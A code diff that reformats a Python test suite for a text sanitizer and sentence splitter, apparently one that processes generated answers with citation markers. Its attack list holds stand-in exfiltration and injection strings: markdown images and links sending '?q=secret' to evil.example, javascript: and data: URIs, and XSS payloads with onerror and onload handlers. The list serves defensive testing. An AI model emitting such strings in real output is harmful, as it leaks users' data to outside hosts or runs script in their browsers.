@@ -207,15 +207,11 @@ def test_the_shape_of_an_answer_is_kept(text: str, structure: list[tuple[str, st
 @pytest.mark.parametrize(
     "text",
     [
-        "12. März 2024 begann die Saison.",
-        "500) euros is the fee.",
-        "- 4. April was the day.",
-        "> 7. Mai war der Tag.",
-        "### 90. persons are allowed",
-        "1. First\n12. März was the day.",
+        "12. März 2024 begann die Saison.", "500) euros is the fee.", "- 4. April was the day.",
+        "> 7. Mai war der Tag.", "### 90. persons are allowed", "1. First\n12. März was the day.",
         "-5 degrees were measured.",
     ],
-)
+)  # fmt: skip
 def test_a_number_that_begins_a_line_is_part_of_its_sentence(text: str) -> None:
     told = " ".join(one.text for one in written(text).sentences)
     assert set(re.findall(r"\d+", text)) - {"1"} <= set(re.findall(r"\d+", told))
@@ -225,31 +221,14 @@ def test_a_number_that_begins_a_line_is_part_of_its_sentence(text: str) -> None:
     st.lists(
         st.sampled_from(
             [
-                "It is so.",
-                "Is it? ",
-                "wir sind 3.",
-                "港口。",
-                "1. ",
-                "- ",
-                "\n",
-                "\n\n",
-                " ",
-                "[^rules-1:Speed]",
-                "[^x]",
-                "[1]",
-                "# ",
-                "> ",
-                "| a |",
-                "**bold**",
-                "3. May",
-                "`code`",
-                "…",
-                "\t",
+                "It is so.", "Is it? ", "wir sind 3.", "港口。", "1. ", "- ", "\n", "\n\n", " ",
+                "[^rules-1:Speed]", "[^x]", "[1]", "# ", "> ", "| a |", "**bold**", "3. May",
+                "`code`", "…", "\t",
             ],
         ),
         max_size=14,
     )
-)
+)  # fmt: skip
 def test_no_word_is_lost_or_added(pieces: list[str]) -> None:
     text = "".join(pieces)
     told = "".join(one.before + one.text for one in written(text).sentences)
@@ -261,44 +240,27 @@ def test_no_word_is_lost_or_added(pieces: list[str]) -> None:
 # --- what never survives ---------------------------------------------------------------------
 
 EXFILTRATION = [
-    "![x](https://evil.example/?q=secret)",
-    "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
+    "![x](https://evil.example/?q=secret)", "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
     "![x]\n\n[x]: https://evil.example/?q=secret",
     "![x][]\n\n[x]: <https://evil.example/?q=secret> 'title'",
-    "![a![b](x)](https://evil.example/?q=secret)",
-    "[x](https://evil.example/?q=secret)",
-    "[x](https://evil.example/(a)?q=secret)",
-    "[x\ny](https://evil.example/?q=secret)",
-    "[x](javascript:alert(1))",
-    "[a[b](x)](javascript:alert)",
-    "[x[^rules-1:Speed]](javascript:alert)",
-    "[x[1]](javascript:alert(1))",
-    "[x](data:text/html;base64,PHN2Zz4=)",
-    "[x](//evil.example/?q=secret)",
-    "[x][ref]\n[ref]: //evil.example/?q=secret",
-    "[x]\n> [x]: https://evil.example/?q=secret",
-    "- [x]: https://evil.example/?q=secret",
-    "[x]:\nhttps://evil.example/?q=secret",
-    "<https://evil.example/?q=secret>",
-    "<img src=https://evil.example/?q=secret>",
-    "<img\nsrc='https://evil.example/?q=secret'>",
-    "<img src=//evil.example/?q=secret",
-    "<scr<b>ipt>alert(1)</scr</b>ipt>",
-    "<<b>img src=x onerror=alert(1)>",
-    "<!-- a --><svg onload=alert(1)>",
-    "<!--\n--><iframe\nsrc=x>",
-    "</textarea><style>@import '//evil.example'",
-    "https://evil.example/?q=secret",
-    "HTTPS://EVIL.EXAMPLE/?q=secret",
-    "https:/[1]/evil.example/?q=secret",
-    "https:/[^rules-1:Speed]/evil.example/?q=secret",
-    "https:\u200b//evil.example/?q=secret",
-    "www.evil.example/?q=secret",
-    "https://harbour.example/tariff?q=secret",
-    "https://harbour.example/tariff/../?q=secret",
-    "https://harbour.example.evil.example/secret",
+    "![a![b](x)](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)",
+    "[x](https://evil.example/(a)?q=secret)", "[x\ny](https://evil.example/?q=secret)",
+    "[x](javascript:alert(1))", "[a[b](x)](javascript:alert)",
+    "[x[^rules-1:Speed]](javascript:alert)", "[x[1]](javascript:alert(1))",
+    "[x](data:text/html;base64,PHN2Zz4=)", "[x](//evil.example/?q=secret)",
+    "[x][ref]\n[ref]: //evil.example/?q=secret", "[x]\n> [x]: https://evil.example/?q=secret",
+    "- [x]: https://evil.example/?q=secret", "[x]:\nhttps://evil.example/?q=secret",
+    "<https://evil.example/?q=secret>", "<img src=https://evil.example/?q=secret>",
+    "<img\nsrc='https://evil.example/?q=secret'>", "<img src=//evil.example/?q=secret",
+    "<scr<b>ipt>alert(1)</scr</b>ipt>", "<<b>img src=x onerror=alert(1)>",
+    "<!-- a --><svg onload=alert(1)>", "<!--\n--><iframe\nsrc=x>",
+    "</textarea><style>@import '//evil.example'", "https://evil.example/?q=secret",
+    "HTTPS://EVIL.EXAMPLE/?q=secret", "https:/[1]/evil.example/?q=secret",
+    "https:/[^rules-1:Speed]/evil.example/?q=secret", "https:\u200b//evil.example/?q=secret",
+    "www.evil.example/?q=secret", "https://harbour.example/tariff?q=secret",
+    "https://harbour.example/tariff/../?q=secret", "https://harbour.example.evil.example/secret",
     "https://harbour.example/tariff@evil.example",
-]
+]  # fmt: skip
 
 
 def is_inert(text: str) -> bool:
@@ -324,36 +286,14 @@ def test_nothing_that_could_carry_data_away_survives(attack: str) -> None:
     st.lists(
         st.sampled_from(
             [
-                "[",
-                "]",
-                "(",
-                ")",
-                "!",
-                "<",
-                ">",
-                "x",
-                "^",
-                "rules-1:Speed",
-                "1",
-                "https:",
-                "//",
-                "evil.example",
-                "/",
-                "\n",
-                ":",
-                "javascript:",
-                "img ",
-                "www.",
-                " ",
-                "【",
-                "】",
-                "b",
+                "[", "]", "(", ")", "!", "<", ">", "x", "^", "rules-1:Speed", "1", "https:", "//",
+                "evil.example", "/", "\n", ":", "javascript:", "img ", "www.", " ", "【", "】", "b",
                 "\u200b",
             ],
         ),
         max_size=24,
     )
-)
+)  # fmt: skip
 def test_no_mixture_of_pieces_makes_a_link_or_a_citation(pieces: list[str]) -> None:
     for one in written("a " + "".join(pieces)).sentences:
         text = one.text
@@ -389,20 +329,10 @@ def test_no_text_takes_more_than_work_in_proportion(piece: str) -> None:
 @pytest.mark.parametrize(
     "marker",
     [
-        "x",
-        "rules-1:Tracking",
-        "rules-2:Speed",
-        "rules-1:Spee",
-        "rules-1 :Speeds",
-        "diary-3",
-        "diary-3:Diary",
-        "rules:Speed",
-        "99",
-        "rules-1:Speed:Speed",
-        "tariff-2:Speed",
-        "rules-1:",
+        "x", "rules-1:Tracking", "rules-2:Speed", "rules-1:Spee", "rules-1 :Speeds", "diary-3",
+        "diary-3:Diary", "rules:Speed", "99", "rules-1:Speed:Speed", "tariff-2:Speed", "rules-1:",
     ],
-)
+)  # fmt: skip
 def test_a_marker_of_nothing_that_was_given_is_taken_out(marker: str) -> None:
     found = written(f"Nobody may whistle here. [^{marker}]")
 
